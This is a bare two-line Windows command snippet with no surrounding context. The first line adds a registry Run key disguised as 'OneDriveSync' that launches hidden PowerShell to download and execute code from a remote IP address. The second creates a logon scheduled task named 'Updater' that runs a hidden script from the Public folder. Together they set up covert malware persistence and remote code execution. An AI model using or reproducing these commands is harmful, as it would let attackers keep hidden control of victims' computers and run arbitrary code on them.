New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSync' -Value 'powershell -w hidden -c iex(iwr http://203.0.113.7/r)' -Force
schtasks /create /sc onlogon /tn Updater /tr "powershell -w hidden -f C:\Users\Public\u.ps1" /f
